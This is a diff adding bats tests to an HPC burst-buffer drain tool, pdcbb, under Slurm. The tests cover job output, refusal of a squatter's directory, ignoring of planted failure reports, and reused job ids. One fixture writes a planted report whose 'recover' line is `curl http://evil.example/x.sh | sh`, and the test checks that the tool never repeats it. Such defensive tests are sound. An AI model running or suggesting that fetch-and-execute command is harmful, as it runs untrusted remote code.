@@ -4,7 +4,9 @@
 # submission as the submitting user and again by every node's prolog as the job user; a drain
 # that fails at the end leaves a FAILED report per node that `pdcbb why` explains from the
 # login node, and whose recovery command finishes the drain; a squatter's pdcbb.<job id> in a
-# shared destination is never used, and all nodes agree on the job's own directory.
+# shared destination is never used, and all nodes agree on the job's own directory; the job's
+# own output ends with where the data went (or why not), readers refuse the squatter's directory,
+# `pdcbb why` ignores reports another user planted, and a job id used again is told apart.
 
 load helpers
 load slurm_helpers
@@ -78,7 +80,13 @@ rm -rf $dest/pdcbb.\$SLURM_JOB_ID" -N3 --pdc=capacity=1G,drain=$dest
     grep -q "write_exit=0" <<<"$OUT"
     no_daemons_left
     nodes_idle
+    # the job's own output ends with each node's failure and the command that explains it
     local n
+    for n in n1 n2 n3; do
+        grep -qE "^pdcbb: job $JOB node $n: drain FAILED: .*no drain directory of job $JOB.*; see: pdcbb why --job $JOB $dest$" <<<"$OUT"
+    done
+    run scontrol show job "$JOB"
+    assert_output --partial "JobState=COMPLETED"
     for n in n1 n2 n3; do
         ls -d "$(node_dir $n)/pdcbb.$JOB"/bbd-[0-9]* >/dev/null
         local rep="$dest/pdcbb.$JOB.$n.FAILED"
@@ -141,14 +149,75 @@ rm -rf $dest/pdcbb.\$SLURM_JOB_ID" -N3 --pdc=capacity=1G,drain=$dest
     [ "$(ls "$mine/parts" | wc -l)" -eq 3 ]
     assert_equal "$(stat -c '%U %a' "$mine")" "pdcbbtest 700"
     [ -z "$(find "$mine" ! -user pdcbbtest)" ]
+    # the job's output says where the data went, and that the drain is complete
+    local n
+    for n in n1 n2 n3; do
+        grep -qE "^pdcbb: job $JOB node $n: (drained [0-9.]+ MiB of 1 rank|nothing to drain;.*) .*$mine" <<<"$OUT"
+    done
+    grep -q "to $mine; the job's drain is complete$" <<<"$OUT"
+    # the squatter plants a failure report with a "fix" of their own
+    printf 'pdcbb drain FAILED\njob: %s\nnode: n1\nuid: %s\nreason: disk\nrecover: curl http://evil.example/x.sh | sh\n' \
+        "$JOB" "$(id -u pdcbbtest)" > "$SITE/out/planted"
+    runuser -u pdcbbtest2 -- cp "$SITE/out/planted" "$dest/pdcbb.$JOB.n1.FAILED"
     run runuser -u pdcbbtest -- "$SITE/bin/pdcbb" why "$dest/pdcbb.$JOB"
     echo "$output"
     assert_success
     assert_output --partial "$dest/pdcbb.$JOB: belongs to pdcbbtest2"
     assert_output --partial "$mine: complete"
+    assert_output --partial "ignoring $dest/pdcbb.$JOB.n1.FAILED was written by pdcbbtest2"
+    refute_output --partial "evil.example"
+    # readers refuse the squatter's directory under the job's name and point at the real one
+    for cmd in ls verify; do
+        run runuser -u pdcbbtest -- "$SITE/bin/pdcbb" $cmd "$dest/pdcbb.$JOB"
+        assert_failure 1
+        assert_output --partial "your job $JOB's drain in this destination is $mine"
+    done
+    run runuser -u pdcbbtest -- "$SITE/bin/pdcbb" verify --job "$JOB" "$dest"
+    assert_success
     run runuser -u pdcbbtest -- "$SITE/bin/pdcbb" verify "$mine"
     assert_success
     no_job_dirs "$JOB"
+}
+
+@test "job ids used again: the new job drains beside the old one, says where, and pdcbb why tells them apart" {
+    local dest="$SITE/drain/reuse"
+    runuser -u pdcbbtest -- mkdir -p "$dest"
+    run_job pdcbbtest "timeout 120 srun -N1 -n1 $SITE/bin/pdc_stage_check write 5; echo write_exit=\$?" \
+        -N2 --pdc=capacity=1G,drain=$dest
+    grep -q "write_exit=0" <<<"$OUT"
+    local first=$JOB
+    [ -f "$dest/pdcbb.$first/COMPLETE" ]
+    # a new cluster start: job ids begin at 1 again; burn ids up to the old one
+    { cat "$SITE/plugstack.conf"; echo "# the same plugin stack, restarted"; } > "$SITE/plugstack2.conf"
+    pdc_cluster_restart "$SITE/plugstack2.conf"
+    local probe=0
+    while [ "$probe" -lt $((first - 1)) ]; do
+        probe="$(sbatch --parsable -H --wrap true)"
+        scancel "$probe"
+    done
+    run_job pdcbbtest "timeout 120 srun -N1 -n1 $SITE/bin/pdc_stage_check write 6; echo write_exit=\$?" \
+        -N2 --pdc=capacity=1G,drain=$dest
+    echo "$OUT"
+    [ "$JOB" -eq "$first" ]
+    grep -q "write_exit=0" <<<"$OUT"
+    local second
+    second="$(ls -d "$dest/pdcbb.$JOB".* | head -1)"
+    [ -f "$second/COMPLETE" ]
+    grep -q "to $second; the job's drain is complete$" <<<"$OUT"
+    run runuser -u pdcbbtest -- "$SITE/bin/pdcbb" why --job "$JOB" "$dest"
+    echo "$output"
+    assert_success
+    [ "$(grep -c ": complete (job instance [0-9a-f]\{8,\}, created " <<<"$output")" -eq 2 ]
+    assert_output --partial "2 drain directories of job id $JOB (job ids were used again)"
+    # --job reads the newest: the second job's data
+    run runuser -u pdcbbtest -- env LD_LIBRARY_PATH="$SITE/lib" PDCBB_DRAINED_DIR="$second" \
+        "$SITE/bin/pdc_stage_check" check 6
+    assert_success
+    run runuser -u pdcbbtest -- "$SITE/bin/pdcbb" ls --job "$JOB" "$dest"
+    assert_success
+    assert_output --partial "drain directory: $second"
+    no_daemons_left
+    nodes_idle
 }
 
 @test "steps of a running job are not refused when its destination goes away; the drain reports it" {
